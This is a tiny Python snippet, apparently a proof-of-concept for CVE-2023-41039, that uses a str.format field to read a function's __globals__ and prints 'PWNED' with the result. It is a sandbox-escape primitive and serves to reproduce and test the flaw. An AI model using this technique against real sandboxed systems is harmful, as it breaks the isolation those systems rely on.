# CVE-2023-41039
def f():
    pass
text = "{0.__globals__}".format(f)
print("PWNED", text)
